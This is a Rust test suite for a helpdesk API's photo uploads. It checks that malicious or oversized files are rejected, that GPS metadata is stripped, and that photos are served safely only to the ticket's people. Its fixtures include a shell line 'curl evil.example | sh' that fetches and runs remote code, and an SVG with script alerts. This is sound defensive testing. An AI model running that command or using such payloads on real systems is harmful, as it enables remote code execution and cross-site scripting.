//! Photos over the API, tried as an attacker would: a script renamed `.jpg`, an SVG with a
//! script, a 50 MB file, 20 files, a damaged JPEG, a JPEG carrying GPS metadata; each refused
//! or cleaned with a clear message in the envelope. Served only to whoever may see the
//! ticket, as an image a browser will not sniff or run.

use std::io::Cursor;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use serde_json::{Value, json};
use tower::ServiceExt;

use crate::support::{STAFF_JSON, SUBSCRIBER, demo_state, send};

const BOUNDARY: &str = "helpdesk-photo-boundary";

/// A multipart body of `(field, file name, bytes)` parts.
pub(crate) fn form(parts: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (field, name, bytes) in parts {
        body.extend_from_slice(
            format!(
                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{name}\"\r\n\
                 Content-Type: image/jpeg\r\n\r\n"
            )
            .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

pub(crate) fn jpeg(width: u32, height: u32) -> Vec<u8> {
    let img = image::DynamicImage::ImageRgb8(image::RgbImage::from_pixel(width, height, image::Rgb([20, 120, 200])));
    let mut out = Vec::new();
    img.write_to(&mut Cursor::new(&mut out), image::ImageFormat::Jpeg).expect("jpeg");
    out
}

/// `jpeg` with an EXIF segment naming where it was taken, as a phone writes it.
fn jpeg_with_location() -> Vec<u8> {
    let plain = jpeg(64, 48);
    let payload = b"Exif\0\0MM\0*\0\0\0\x08GPSLatitude 4.6097 N GPSLongitude 74.0817 W";
    let length = u16::try_from(payload.len() + 2).expect("short").to_be_bytes();
    let mut with = plain[..2].to_vec();
    with.extend_from_slice(&[0xFF, 0xE1, length[0], length[1]]);
    with.extend_from_slice(payload);
    with.extend_from_slice(&plain[2..]);
    with
}

pub(crate) async fn upload(
    state: &helpdesk_server::AppState,
    who: &str,
    ticket: u64,
    body: Vec<u8>,
) -> (StatusCode, Value) {
    let content_type = format!("multipart/form-data; boundary={BOUNDARY}");
    let headers = [("authorization", who), ("content-type", content_type.as_str())];
    send(state, "POST", &format!("/api/v1/tickets/{ticket}/photos"), &headers, body).await
}

/// GET `uri` as `who`: status, headers and the raw body.
pub(crate) async fn fetch(
    state: &helpdesk_server::AppState,
    who: &str,
    uri: &str,
) -> (StatusCode, axum::http::HeaderMap, Vec<u8>) {
    let req = Request::builder().uri(uri).header("authorization", who).body(Body::empty()).expect("request");
    let response = helpdesk_server::app(state.clone(), None).oneshot(req).await.expect("response");
    let (status, headers) = (response.status(), response.headers().clone());
    (status, headers, response.into_body().collect().await.expect("body").to_bytes().to_vec())
}

#[tokio::test]
async fn photos_are_cleaned_of_their_location_and_shown_only_to_the_tickets_people() {
    let demo = demo_state().await;
    let (status, added) = upload(
        &demo,
        SUBSCRIBER,
        4,
        form(&[("photo", "router.jpg", &jpeg_with_location()), ("photo", "luces.jpg", &jpeg(3000, 2000))]),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{added}");
    let photos = added["data"]["photos"].as_array().expect("photos").clone();
    assert_eq!(photos.len(), 2);
    assert_eq!((photos[1]["width"].as_u64(), photos[1]["height"].as_u64()), (Some(2048), Some(1365)), "scaled down");
    let url = photos[0]["url"].as_str().expect("url").to_owned();

    let (status, headers, bytes) = fetch(&demo, SUBSCRIBER, &url).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "image/jpeg");
    assert!(headers["content-disposition"].to_str().expect("text").starts_with("inline; filename="));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(headers["content-security-policy"].to_str().expect("text").contains("sandbox"));
    assert_eq!(&bytes[..3], &[0xFF, 0xD8, 0xFF]);
    let text = String::from_utf8_lossy(&bytes);
    assert!(!text.contains("Exif") && !text.contains("GPS"), "the location is gone");
    assert_eq!(image::load_from_memory(&bytes).expect("an image").width(), 64);

    let (_, listed) =
        send(&demo, "GET", "/api/v1/tickets/4/photos", &[("authorization", SUBSCRIBER)], Body::empty()).await;
    assert_eq!(listed["data"]["photos"].as_array().map(Vec::len), Some(2));
    let (_, token) =
        send(&demo, "POST", "/api/v1/subscriber-tokens", &STAFF_JSON, json!({"service_id": 200}).to_string()).await;
    let other = format!("Bearer {}", token["data"]["token"].as_str().expect("token"));
    let (status, _, body) = fetch(&demo, &other, &url).await;
    let body: Value = serde_json::from_slice(&body).expect("an envelope");
    assert_eq!((status, body["action"].as_str()), (StatusCode::OK, Some("ticket_not_found")), "another subscriber");
    let (status, _, _) = fetch(&demo, SUBSCRIBER, "/api/v1/tickets/4/photos/999").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn whatever_is_not_a_photo_is_refused_with_a_message() {
    let demo = demo_state().await;
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>"#;
    let mut damaged = jpeg(40, 40);
    damaged.truncate(60);
    let big = vec![0xFF_u8; 50 * 1024 * 1024];
    let one = jpeg(8, 8);
    let twenty: Vec<(&str, &str, &[u8])> = (0..20).map(|_| ("photo", "x.jpg", one.as_slice())).collect();
    let cases: [(Vec<u8>, u16); 6] = [
        (form(&[("photo", "foto.jpg", b"#!/bin/sh\ncurl evil.example | sh\n")]), 415),
        (form(&[("photo", "foto.svg", svg)]), 415),
        (form(&[("photo", "foto.jpg", &damaged)]), 422),
        (form(&[("photo", "grande.jpg", &big)]), 413),
        (form(&twenty), 422),
        (form(&[]), 422),
    ];
    for (body, expected) in cases {
        let (status, answer) = upload(&demo, SUBSCRIBER, 4, body).await;
        assert_eq!(status.as_u16(), expected, "{answer}");
        assert!(answer["message"].as_str().is_some_and(|m| !m.is_empty()), "{answer}");
    }
    let (_, listed) =
        send(&demo, "GET", "/api/v1/tickets/4/photos", &[("authorization", SUBSCRIBER)], Body::empty()).await;
    assert_eq!(listed["data"]["photos"], json!([]), "nothing of those stored");
    let (status, _) = send(&demo, "POST", "/api/v1/tickets/4/photos", &[("authorization", SUBSCRIBER)], "x").await;
    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "not a form");
    for _ in 0..4 {
        assert_eq!(
            upload(&demo, SUBSCRIBER, 4, form(&[("photo", "a.jpg", one.as_slice()); 3])).await.0,
            StatusCode::CREATED
        );
    }
    let (status, full) = upload(&demo, SUBSCRIBER, 4, form(&[("photo", "a.jpg", one.as_slice())])).await;
    assert_eq!(status, StatusCode::CONFLICT, "a ticket holds 12: {full}");
}
